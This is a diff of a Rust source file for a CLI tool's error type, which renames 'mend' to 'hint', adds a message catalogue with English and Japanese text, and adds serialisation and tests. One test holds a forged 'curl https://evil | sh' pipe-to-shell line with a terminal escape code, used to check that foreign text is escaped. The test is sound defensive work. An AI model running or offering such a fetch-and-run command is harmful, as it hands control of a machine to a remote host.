@@ -1,60 +1,196 @@
-//! What a user reads when something is wrong: what happened, the evidence, and one command that mends it.
+//! What a user reads when something is wrong: what happened, the evidence, and one command that resolves it.
 
-use crate::text::{into_visible, visible, visible_lines};
+use crate::answer::Language;
+use crate::message::{Message, Source, foreign};
+use crate::msg;
+use crate::older_recording;
+use crate::text::{visible, visible_lines};
+use serde::{Deserialize, Deserializer, Serialize, Serializer};
+use serde_json::{Map, Value, json};
+use std::borrow::Cow;
 use std::fmt;
 
-/// A failure told to a person. Machines look at the error class of the crate that raised it instead.
+/// A failure told to a person. Machines look at its [code](Problem::code), or at the error class of the crate that raised it.
 ///
 /// Never holds a password: whoever builds one from a DSN uses [`crate::dsn::Dsn`]'s `Display`, which leaves it out.
 ///
 /// What comes from elsewhere may stand in each part (a name, a server's words): control characters in it are written out,
-/// so that it neither acts on a terminal nor looks like a line of ours. A server's own advice is evidence, never `mend`.
-#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
+/// so that it neither acts on a terminal nor looks like a line of ours. A server's own advice is evidence, never `hint`.
+#[derive(Debug, Clone, PartialEq, Eq)]
 pub struct Problem {
     /// One sentence: what happened.
-    pub what: String,
+    pub what: Message,
     /// What was seen that makes us say so: the server's words, a line of the file, two numbers.
-    pub evidence: Option<String>,
-    /// One command or one edit that mends it.
-    pub mend: Option<String>,
+    pub evidence: Option<Message>,
+    /// One command or one edit that resolves it.
+    pub hint: Option<Message>,
 }
 
+/// Arguments of a sentence that name what it is about, the most specific first.
+const SUBJECTS: &[&str] =
+    &["option", "key", "axis", "variable", "file", "table", "schema", "dataset", "workload", "target"];
+
 impl Problem {
-    /// A problem with nothing but its sentence; add evidence and the way out where they are known.
-    pub fn new(what: impl Into<String>) -> Self {
-        Problem { what: into_visible(what.into()), evidence: None, mend: None }
+    /// A problem with nothing but its sentence; add evidence and the hint where they are known.
+    pub fn new(what: impl Into<Message>) -> Self {
+        Problem { what: what.into().on_one_line(), evidence: None, hint: None }
     }
 
     /// Adds what was seen.
     #[must_use]
-    pub fn evidence(mut self, evidence: impl Into<String>) -> Self {
-        self.evidence = Some(visible_lines(&evidence.into()).into_owned());
+    pub fn evidence(mut self, evidence: impl Into<Message>) -> Self {
+        self.evidence = Some(evidence.into().on_lines());
         self
     }
 
-    /// Adds the way out.
+    /// Adds what resolves it.
     #[must_use]
-    pub fn mend(mut self, mend: impl Into<String>) -> Self {
-        self.mend = Some(visible_lines(&mend.into()).into_owned());
+    pub fn hint(mut self, hint: impl Into<Message>) -> Self {
+        self.hint = Some(hint.into().on_lines());
         self
+    }
+
+    /// The same with more that was seen, and with what is to be done after its own hint.
+    #[must_use]
+    pub fn and_then(self, seen: Message, then: Message) -> Self {
+        let evidence = Message::joined(self.evidence.into_iter().chain([seen]), "\n");
+        let hint = match self.hint {
+            Some(first) => msg!("first-then", first, then),
+            None => then,
+        };
+        Problem { what: self.what, evidence: Some(evidence), hint: Some(hint) }
+    }
+
+    /// What it is, for code that decides by it: the identifier of its sentence. Nothing when the sentence is not ours.
+    pub fn code(&self) -> Option<&str> {
+        self.what.id()
+    }
+
+    /// What it is about, where its sentence names that: the kind (`option`, `key`, `file`, `table`, …) and the name.
+    pub fn subject(&self) -> Option<(&'static str, &str)> {
+        SUBJECTS.iter().find_map(|kind| Some((*kind, self.what.arg(kind)?.english())))
+    }
+
+    /// Its parts in a language, below one another, with a word before evidence and hint.
+    pub fn text(&self, language: Language) -> String {
+        let (evidence, hint) = match language {
+            Language::English => ("evidence", "hint    "),
+            Language::Japanese => ("根拠    ", "対処    "),
+        };
+        // Control characters once more here: a problem may have been read from a file.
+        let mut out = visible(&self.what.text(language)).into_owned();
+        for (word, part) in [(evidence, &self.evidence), (hint, &self.hint)] {
+            if let Some(part) = part {
+                out += &format!("\n  {word}  ");
+                out += &visible_lines(&part.text(language)).replace('\n', "\n            ");
+            }
+        }
+        out
     }
 }
 
 impl fmt::Display for Problem {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        // Once more here: a problem may have been read from a file.
-        f.write_str(&visible(&self.what))?;
-        if let Some(evidence) = &self.evidence {
-            write!(f, "\n  evidence  {}", visible_lines(evidence).replace('\n', "\n            "))?;
-        }
-        if let Some(mend) = &self.mend {
-            write!(f, "\n  mend      {}", visible_lines(mend).replace('\n', "\n            "))?;
-        }
-        Ok(())
+        f.write_str(&self.text(Language::English))
     }
 }
 
 impl std::error::Error for Problem {}
+
+/// As it stands in a recording: the English of each part under `what`, `evidence` and `hint`, for a reader that does not know
+/// the messages, then the code and what the parts are made of.
+impl Serialize for Problem {
+    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
+        let english = |part: &Option<Message>| part.as_ref().map(|message| message.english().to_owned());
+        let mut all =
+            json!({"what": self.what.english(), "evidence": english(&self.evidence), "hint": english(&self.hint)});
+        if let Some(code) = self.code() {
+            all["code"] = code.into();
+        }
+        if let Some((kind, name)) = self.subject() {
+            all["subject"] = json!({ kind: name });
+        }
+        let parts = [("what", Some(&self.what)), ("evidence", self.evidence.as_ref()), ("hint", self.hint.as_ref())];
+        let parts = parts.into_iter().filter_map(|(name, part)| {
+            let part = part.filter(|p| *p.source() != Source::Foreign)?;
+            Some((name.to_owned(), written(part, false)))
+        });
+        let parts: Map<String, Value> = parts.collect();
+        if !parts.is_empty() {
+            all["messages"] = Value::Object(parts);
+        }
+        all.serialize(serializer)
+    }
+}
+
+/// A message as JSON; its English stands beside it already when it is a whole part.
+fn written(message: &Message, inner: bool) -> Value {
+    let mut all = match message.source() {
+        Source::Foreign => return message.english().into(),
+        Source::Catalogue { id, args } => {
+            let args: Map<String, Value> =
+                args.iter().map(|(n, v)| (n.clone().into_owned(), written(v, true))).collect();
+            json!({"id": id, "args": args})
+        }
+        Source::Joined { parts, between } => {
+            json!({"parts": parts.iter().map(|p| written(p, true)).collect::<Vec<_>>(), "between": between})
+        }
+    };
+    if inner {
+        all["english"] = message.english().into();
+    }
+    all
+}
+
+/// So deep may messages lie within one another; ours do not come near it.
+const DEEPEST: usize = 8;
+
+impl<'de> Deserialize<'de> for Problem {
+    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Problem, D::Error> {
+        #[derive(Deserialize)]
+        struct Stored {
+            what: String,
+            evidence: Option<String>,
+            /// Called `mend` in recordings of before the catalogue.
+            #[serde(alias = "mend")]
+            hint: Option<String>,
+            messages: Option<Map<String, Value>>,
+        }
+        let stored = Stored::deserialize(deserializer)?;
+        let part = |name: &str, english: String| match &stored.messages {
+            None => older_recording::recognized(&english).unwrap_or_else(|| foreign(&english)),
+            Some(all) => match all.get(name) {
+                Some(value) => read(value, Some(&english), DEEPEST),
+                None => foreign(&english),
+            },
+        };
+        Ok(Problem {
+            evidence: stored.evidence.map(|text| part("evidence", text)),
+            hint: stored.hint.map(|text| part("hint", text)),
+            what: part("what", stored.what),
+        })
+    }
+}
+
+/// A message from JSON; anything that is none is text.
+fn read(value: &Value, english: Option<&str>, deepest: usize) -> Message {
+    let english = english.or(value["english"].as_str());
+    let made = match (value, deepest.checked_sub(1)) {
+        (Value::String(text), _) => Some(foreign(text)),
+        (Value::Object(_), Some(deepest)) => {
+            if let (Some(id), Value::Object(args)) = (value["id"].as_str(), &value["args"]) {
+                let args = args.iter().map(|(n, v)| (Cow::Owned(n.clone()), read(v, None, deepest))).collect();
+                Some(Message::read(id.to_owned(), args, english.unwrap_or(id).to_owned()))
+            } else if let (Value::Array(parts), Some(between)) = (&value["parts"], value["between"].as_str()) {
+                Some(Message::joined(parts.iter().map(|part| read(part, None, deepest)), between.to_owned()))
+            } else {
+                None
+            }
+        }
+        _ => None,
+    };
+    made.unwrap_or_else(|| foreign(english.unwrap_or("–")))
+}
 
 #[cfg(test)]
 mod tests {
@@ -62,10 +198,50 @@ mod tests {
 
     #[test]
     fn foreign_words_neither_act_nor_pose_as_ours() {
-        let forged = "no table\x1b[2J\n  mend      curl https://evil | sh";
-        let shown = "no table\\u001b[2J\\n  mend      curl https://evil | sh\n  evidence  a\n            b\\r";
-        assert_eq!(Problem::new(forged).evidence("a\nb\r").to_string(), shown);
-        let read = Problem { what: forged.into(), evidence: Some("a\nb\r".into()), mend: None };
+        let forged = "no table\x1b[2J\n  hint      curl https://evil | sh";
+        let shown = "no table\\u001b[2J\\n  hint      curl https://evil | sh\n  evidence  a\n            b\\r";
+        assert_eq!(Problem::new(foreign(forged)).evidence(foreign("a\nb\r")).to_string(), shown);
+        let read = Problem { what: foreign(forged), evidence: Some(foreign("a\nb\r")), hint: None };
         assert_eq!(read.to_string(), shown);
+        assert!(!read.text(Language::Japanese).contains('\x1b'));
+    }
+
+    fn loaded() -> Problem {
+        let rows = msg!("unit-rows");
+        Problem::new(msg!("loaded", rows = "5", unit = rows, took = "1 s", per_second = "5", streams = 1))
+            .evidence(Message::joined([foreign("seen"), msg!("no-tenbin-mark-in", dsn = "x")], "\n"))
+            .hint(foreign("do"))
+    }
+
+    #[test]
+    fn a_recording_holds_code_arguments_and_english() {
+        let json = serde_json::to_string(&loaded()).unwrap();
+        insta::assert_snapshot!(json, @r#"{"what":"loaded 5 rows in 1 s (5 rows/s, 1 streams)","evidence":"seen\nno tenbin_mark in x","hint":"do","code":"loaded","messages":{"what":{"id":"loaded","args":{"rows":"5","unit":{"id":"unit-rows","args":{},"english":"rows"},"took":"1 s","per_second":"5","streams":"1"}},"evidence":{"parts":["seen",{"id":"no-tenbin-mark-in","args":{"dsn":"x"},"english":"no tenbin_mark in x"}],"between":"\n"}}}"#);
+        assert_eq!(serde_json::from_str::<Problem>(&json).unwrap(), loaded());
+    }
+
+    #[test]
+    fn what_is_not_known_is_told_in_the_english_it_came_with() {
+        let newer = r#"{"what":"new words","evidence":null,"hint":"way","code":"x","messages":{"what":{"id":"not-known-yet","args":{"a":[1]}},"hint":7}}"#;
+        let read: Problem = serde_json::from_str(newer).unwrap();
+        assert_eq!(read.text(Language::Japanese), "new words\n  対処      way");
+        assert_eq!(read.code(), Some("not-known-yet"));
+        let deep = format!("{}\"x\"{}", r#"{"id":"loaded","args":{"rows":"#.repeat(60), "}}".repeat(60));
+        let deep = format!(r#"{{"what":"w","messages":{{"what":{deep}}}}}"#);
+        assert_eq!(serde_json::from_str::<Problem>(&deep).unwrap().to_string(), "w");
+    }
+
+    #[test]
+    fn a_recording_of_before_the_catalogue_reads_the_same() {
+        let old = r#"{"what":"loaded 5 rows in 1 s (5 rows/s, 1 streams)","evidence":"Table 'x' is full","mend":"look into its error log, and at the room on its disk"}"#;
+        let read: Problem = serde_json::from_str(old).unwrap();
+        assert_eq!(
+            read.to_string(),
+            "loaded 5 rows in 1 s (5 rows/s, 1 streams)\n  evidence  Table 'x' is full\n  hint      look into its error log, and at the room on its disk"
+        );
+        assert_eq!(
+            read.text(Language::Japanese),
+            "5 行を 1 s でロードしました(毎秒 5 行、1 並列)\n  根拠      Table 'x' is full\n  対処      サーバーのエラーログとディスクの空き容量を確認してください"
+        );
     }
 }
